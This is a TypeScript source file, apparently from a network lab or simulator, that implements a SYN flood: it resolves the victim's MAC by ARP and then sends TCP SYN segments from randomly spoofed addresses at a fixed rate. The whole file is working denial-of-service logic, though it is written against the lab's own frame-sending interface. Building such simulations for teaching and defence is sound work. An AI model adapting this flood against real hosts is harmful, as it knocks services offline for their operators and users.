/**
 * A SYN flood (RFC 4987, as hping3 does): connections are opened in the names of stations that are not there, so each waits half
 * open at its victim until that gives up, and nobody else finds room.
 */
import { milliseconds, type Nanos } from '../../base/units.js'
import { ipv4Text, MAC_BROADCAST, type Ipv4Address, type MacAddress } from '../../net/wire/addresses.js'
import { ARP_OPERATION, encodeArp } from '../../net/wire/arp.js'
import { encodeEthernet, ETHERTYPE } from '../../net/wire/ethernet.js'
import { arpIn } from '../middle/arp-spoof.js'
import type { Attack, Reach, Sleeper } from '../reach.js'
import { encodeSyn } from './syn-packet.js'

const ASK_INTERVAL_NS = milliseconds(100)
const ASK_MAX = 20
/** Addresses that no station of the lab has (RFC 2544 keeps them for benchmarks): 198.18.0.0/15. */
const SPOOFED_FIRST = 0xc612_0000
const SPOOFED_COUNT = 0x2_0000

export interface SynFloodOptions {
  readonly victim: Ipv4Address
  readonly port: number
  /** Between two segments. */
  readonly intervalNs: Nanos
}

export class SynFlood implements Attack, Sleeper {
  private mac: MacAddress | null = null
  private asked = 0
  private isOn = false
  sent = 0

  constructor(
    private readonly reach: Reach,
    private readonly options: SynFloodOptions,
  ) {}

  start(): void {
    this.isOn = true
    this.woken()
  }

  stop(): void {
    this.isOn = false
  }

  takesFrame(frame: Uint8Array): boolean {
    const message = this.mac === null ? arpIn(frame) : null
    if (message === null || message.senderAddress !== this.options.victim) return false
    this.mac = message.senderMac
    const { victim, port, intervalNs } = this.options
    this.reach.tell(
      'flood',
      `${ipv4Text(victim)}, TCP port ${port}: ${Math.round(1e9 / intervalNs)} connections a second`,
    )
    return false
  }

  woken(): void {
    if (!this.isOn) return
    if (this.mac !== null) this.fire(this.mac)
    else if (this.asked++ < ASK_MAX) this.ask()
    else {
      this.reach.tell('flood', `nobody answers for ${ipv4Text(this.options.victim)}: given up`)
      this.isOn = false
      return
    }
    this.reach.wakeAfter(this.mac === null ? ASK_INTERVAL_NS : this.options.intervalNs, this)
  }

  private fire(destination: MacAddress): void {
    const { reach, options } = this
    const source = SPOOFED_FIRST + reach.random.below(SPOOFED_COUNT)
    const payload = encodeSyn(reach.random, source, options.victim, options.port)
    this.sent++
    reach.sendFrame(encodeEthernet({ destination, source: reach.mac, vlan: null, etherType: ETHERTYPE.ipv4, payload }))
  }

  private ask(): void {
    const { mac, address } = this.reach
    const message = { operation: ARP_OPERATION.request, senderMac: mac, senderAddress: address }
    const payload = encodeArp({ ...message, targetMac: 0, targetAddress: this.options.victim })
    const header = { destination: MAC_BROADCAST, source: mac, vlan: null, etherType: ETHERTYPE.arp }
    this.reach.sendFrame(encodeEthernet({ ...header, payload }))
  }
}
